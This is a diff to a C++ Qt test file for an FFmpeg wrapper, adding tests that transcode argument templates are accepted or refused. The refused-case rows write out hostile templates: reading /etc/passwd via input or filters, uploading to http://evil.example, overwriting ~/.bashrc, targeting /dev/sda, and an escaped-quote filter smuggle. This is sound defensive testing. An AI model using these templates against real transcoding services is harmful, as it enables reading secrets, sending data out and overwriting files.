@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: MIT
 #include "media/ffmpegtools.h"
+#include "media/transcodetemplate.h"
 #include "media/videoinfo.h"
 #include "platform/appdirs.h"
 #include "testvideos.h"
@@ -10,6 +11,8 @@
 #include <QSignalSpy>
 #include <QTemporaryDir>
 #include <QtTest>
+
+#include <sys/stat.h>
 
 class TestFFMpegTools final : public QObject
 {
@@ -25,8 +28,8 @@ private slots:
     void info_noFfmpegAnywhere_returns404();
     void program_packagedCopy_winsOverPath();
 
-    void buildArguments_templates_substituteAfterSplitting_data();
-    void buildArguments_templates_substituteAfterSplitting();
+    void transcodeTemplate_templates_acceptedOrRefused_data();
+    void transcodeTemplate_templates_acceptedOrRefused();
 
 private:
     QTemporaryDir m_dir;
@@ -65,8 +68,11 @@ void TestFFMpegTools::info_files_giveFactsAndLayout_data()
     QTest::newRow("zero bytes") << m_dir.filePath(QStringLiteral("zero.mp4")) << QByteArray("") << 1 << false;
     QTest::newRow("text named mp4") << m_dir.filePath(QStringLiteral("notes.mp4"))
                                     << QByteArray("not a video\n") << 1 << false;
-    QTest::newRow("missing file") << m_dir.filePath(QStringLiteral("missing.mp4")) << QByteArray() << 1
+    QTest::newRow("missing file") << m_dir.filePath(QStringLiteral("missing.mp4")) << QByteArray() << 403
                                   << false;
+    // ffmpeg would wait for a writer for ever.
+    QTest::newRow("FIFO") << m_dir.filePath(QStringLiteral("fifo.mp4")) << QByteArray() << 415 << false;
+    QTest::newRow("directory") << m_dir.path() << QByteArray() << 415 << false;
 }
 
 void TestFFMpegTools::info_files_giveFactsAndLayout()
@@ -75,6 +81,8 @@ void TestFFMpegTools::info_files_giveFactsAndLayout()
     QFETCH(QByteArray, content);
     QFETCH(int, result);
     QFETCH(bool, moovAheadMdat);
+    if (path.endsWith(QLatin1String("fifo.mp4")))
+        QCOMPARE(::mkfifo(QFile::encodeName(path).constData(), 0600), 0);
     if (!content.isNull()) {
         QFile file(path);
         QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
@@ -128,10 +136,10 @@ void TestFFMpegTools::info_noFfmpegAnywhere_returns404()
     VideoInfo info;
     FFMpegTools tools;
     QCOMPARE(tools.info(&info, m_fast), 404);
-    // A transcode without ffmpeg does nothing and says nothing; the caller's probe finds out.
     QSignalSpy progress(&tools, &FFMpegTools::formatProcessSignal);
     const QString target = m_dir.filePath(QStringLiteral("never.mp4"));
-    QCOMPARE(tools.format(QStringList{QStringLiteral("-i"), m_fast, target}), 0);
+    QCOMPARE(tools.format(QStringList{QStringLiteral("-i"), m_fast, target}), 404);
+    QVERIFY(tools.formatError().startsWith(QStringLiteral("未找到 ffmpeg")));
     QCOMPARE(progress.count(), 0);
     QVERIFY(!QFileInfo::exists(target));
 }
@@ -158,43 +166,65 @@ void TestFFMpegTools::program_packagedCopy_winsOverPath()
     QCOMPARE(tools.info(&info, m_fast), 0);
 }
 
-void TestFFMpegTools::buildArguments_templates_substituteAfterSplitting_data()
+void TestFFMpegTools::transcodeTemplate_templates_acceptedOrRefused_data()
 {
     QTest::addColumn<QString>("argumentTemplate");
-    QTest::addColumn<QString>("source");
-    QTest::addColumn<QStringList>("expected");
+    QTest::addColumn<QStringList>("expected"); // empty: refused
+    QTest::addColumn<QString>("refused");
 
-    const QString target = QStringLiteral("tmp/NR_7.mp4");
-    QTest::newRow("server template")
-        << QStringLiteral("{ffmpegPath} -y -i \"{source}\" -vf scale=-2:480 \"{target}\" -loglevel info")
-        << QStringLiteral("/home/u/My Videos/a.mp4")
-        << QStringList{QStringLiteral("-y"), QStringLiteral("-i"), QStringLiteral("/home/u/My Videos/a.mp4"),
-                       QStringLiteral("-vf"), QStringLiteral("scale=-2:480"), target,
-                       QStringLiteral("-loglevel"), QStringLiteral("info")};
-    QTest::newRow("quote in path stays inside its argument")
-        << QStringLiteral("-i \"{source}\" \"{target}\"") << QStringLiteral("/v/say \"hi\" now.mp4")
-        << QStringList{QStringLiteral("-i"), QStringLiteral("/v/say \"hi\" now.mp4"), target};
-    QTest::newRow("inserted text is not substituted again")
-        << QStringLiteral("-i {source} {target}") << QStringLiteral("/v/{target}.mp4")
-        << QStringList{QStringLiteral("-i"), QStringLiteral("/v/{target}.mp4"), target};
-    QTest::newRow("placeholder inside an argument")
-        << QStringLiteral("-i {source} -passlogfile {target}.log {target}") << QStringLiteral("/v/a.mp4")
-        << QStringList{QStringLiteral("-i"), QStringLiteral("/v/a.mp4"), QStringLiteral("-passlogfile"),
-                       target + QStringLiteral(".log"), target};
-    QTest::newRow("template without target") << QStringLiteral("{ffmpegPath}{ffmpegPath} -i {source}")
-                                             << QStringLiteral("/v/a.mp4")
-                                             << QStringList{QStringLiteral("-i"), QStringLiteral("/v/a.mp4")};
+    const QString source = QStringLiteral("/home/u/My Videos/say \"hi\".mp4");
+    const QStringList output{QStringLiteral("-protocol_whitelist"), QStringLiteral("file"),
+                             QStringLiteral("/data/tmp/NR_7.mp4")};
+    QTest::newRow("platform template")
+        << QStringLiteral("-i {source} -c:v libx264 -b:v 1000k -s 1280x720 -c:a aac -y {target}")
+        << QStringList{QStringLiteral("-i"), source, QStringLiteral("-c:v"), QStringLiteral("libx264"),
+                       QStringLiteral("-b:v"), QStringLiteral("1000k"), QStringLiteral("-s"), QStringLiteral("1280x720"),
+                       QStringLiteral("-c:a"), QStringLiteral("aac"), QStringLiteral("-y")} + output
+        << QString();
+    QTest::newRow("reference server template")
+        << QStringLiteral("{ffmpegPath} -y -i \"{source}\" -vf scale=-2:240 -c:v libx264 -preset ultrafast -crf 32 "
+                          "-c:a aac -b:a 64k -movflags +faststart \"{target}\"")
+        << QStringList{QStringLiteral("-y"), QStringLiteral("-i"), source, QStringLiteral("-vf"),
+                       QStringLiteral("scale=-2:240"), QStringLiteral("-c:v"), QStringLiteral("libx264"),
+                       QStringLiteral("-preset"), QStringLiteral("ultrafast"), QStringLiteral("-crf"), QStringLiteral("32"),
+                       QStringLiteral("-c:a"), QStringLiteral("aac"), QStringLiteral("-b:a"), QStringLiteral("64k"),
+                       QStringLiteral("-movflags"), QStringLiteral("+faststart")} + output
+        << QString();
+    QTest::newRow("quoted comma inside a filter")
+        << QStringLiteral("-i {source} -map 0:v:0 -map 0:a? -vf \"scale='min(1280,iw)':-2,fps=30\" -f mp4 {target}")
+        << QStringList{QStringLiteral("-i"), source, QStringLiteral("-map"), QStringLiteral("0:v:0"),
+                       QStringLiteral("-map"), QStringLiteral("0:a?"), QStringLiteral("-vf"),
+                       QStringLiteral("scale='min(1280,iw)':-2,fps=30"), QStringLiteral("-f"), QStringLiteral("mp4")} + output
+        << QString();
+
+    const auto refused = [](const char *name, const char *argumentTemplate, const char *argument) {
+        QTest::newRow(name) << QString::fromUtf8(argumentTemplate) << QStringList() << QString::fromUtf8(argument);
+    };
+    refused("reads another file", "-i /etc/passwd -c copy {target}", "-i /etc/passwd");
+    refused("second input", "-i {source} -i {source} -map 1 {target}", "-i {source}");
+    refused("http output", "-i {source} -c copy -f mp4 http://evil.example/up", "http://evil.example/up");
+    refused("second output", "-i {source} -c copy /home/u/.bashrc {target}", "/home/u/.bashrc");
+    refused("target not last", "-i {source} {target} -f mp4", "{target}");
+    refused("no target", "{ffmpegPath} -i {source}", "{target}");
+    refused("lavfi reads the source as a graph", "-f lavfi -i {source} {target}", "-f lavfi");
+    refused("movie filter", "-i {source} -vf movie=/etc/passwd {target}", "-vf movie=/etc/passwd");
+    refused("file reader behind an allowed filter", "-i {source} -filter:v scale=320:-2,drawtext=textfile=/etc/passwd {target}",
+            "-filter:v scale=320:-2,drawtext=textfile=/etc/passwd");
+    // ffmpeg reads \' as a plain quote, so the comma after it starts a second filter.
+    refused("escaped quote hiding a second filter", "-i {source} -vf \"scale=a\\',subtitles=x.srt,b='\" {target}",
+            "-vf scale=a\\',subtitles=x.srt,b='");
+    refused("filter graph option", "-i {source} -filter_complex amovie=/etc/passwd {target}", "-filter_complex");
+    refused("codec value that is a path", "-i {source} -c:v /dev/sda {target}", "-c:v /dev/sda");
 }
 
-void TestFFMpegTools::buildArguments_templates_substituteAfterSplitting()
+void TestFFMpegTools::transcodeTemplate_templates_acceptedOrRefused()
 {
     QFETCH(QString, argumentTemplate);
-    QFETCH(QString, source);
-    const FFMpegTools::Substitutions substitutions{
-        {QStringLiteral("{ffmpegPath}"), QString()},
-        {QStringLiteral("{source}"), source},
-        {QStringLiteral("{target}"), QStringLiteral("tmp/NR_7.mp4")}};
-    QTEST(FFMpegTools::buildArguments(argumentTemplate, substitutions), "expected");
+    TranscodeTemplate::Refusal refusal;
+    QTEST(TranscodeTemplate::build(argumentTemplate, QStringLiteral("/home/u/My Videos/say \"hi\".mp4"),
+                                   QStringLiteral("/data/tmp/NR_7.mp4"), &refusal),
+          "expected");
+    QTEST(refusal.argument, "refused");
 }
 
 QTEST_GUILESS_MAIN(TestFFMpegTools)
